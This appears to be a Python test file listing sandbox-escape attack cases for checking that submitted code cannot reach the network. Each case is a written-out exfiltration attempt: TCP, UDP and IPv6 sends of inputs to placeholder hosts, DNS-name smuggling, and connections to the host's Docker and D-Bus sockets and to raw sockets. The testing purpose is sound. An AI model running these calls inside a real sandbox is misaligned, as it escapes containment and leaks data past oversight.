"""Reaching anything outside, by every family of sockets."""

from tests.attacks.model import Attack, answer

_NONE = "There is no network in the sandbox: nothing is sent, and the answer is wrong."


def _reach(name: str, title: str, tried: str, body: str) -> Attack:
    attempt = "import socket\ntry:\n" + "".join(f"    {line}\n" for line in body.splitlines())
    return answer(
        f"network_{name}",
        title,
        tried,
        _NONE,
        attempt
        + "except (OSError, AttributeError):\n    return wrong()\n"
        + "raise RuntimeError('reached it')",
    )


ATTACKS: list[Attack] = [
    _reach(
        "tcp",
        "Connect over IPv4",
        "Send the inputs to a server over TCP.",
        "socket.create_connection(('192.0.2.1', 80), 0.2).send(b'inputs')",
    ),
    _reach(
        "udp",
        "Send a datagram",
        "Send the inputs in a UDP packet, which needs no answer.",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'inputs', ('192.0.2.1', 53))",
    ),
    _reach(
        "ipv6",
        "Connect over IPv6",
        "The same over IPv6.",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'inputs', ('2001:db8::1', 53))",
    ),
    _reach(
        "dns",
        "Ask a name server",
        "Hide the inputs in a host name that has to be looked up.",
        "socket.getaddrinfo('inputs.example.com', 80)",
    ),
    _reach(
        "unix",
        "Connect to a local service",
        "Connect to sockets of the host by path and by abstract name.",
        "for name in ('/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0',\n"
        "             '\\0/tmp/.X11-unix/X0', '\\0vraisemblance'):\n"
        "    try:\n"
        "        socket.socket(socket.AF_UNIX).connect(name)\n"
        "        break\n"
        "    except OSError:\n"
        "        continue\n"
        "else:\n"
        "    raise OSError",
    ),
    _reach(
        "raw",
        "Use raw, packet, netlink and VM sockets",
        "Open sockets of the families that go round the others.",
        "for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, 3),\n"
        "                     (socket.AF_VSOCK, 1), (socket.AF_BLUETOOTH, 3), (socket.AF_ALG, 5)):\n"
        "    try:\n"
        "        socket.socket(family, kind)\n"
        "        break\n"
        "    except OSError:\n"
        "        continue\n"
        "else:\n"
        "    raise OSError",
    ),
]
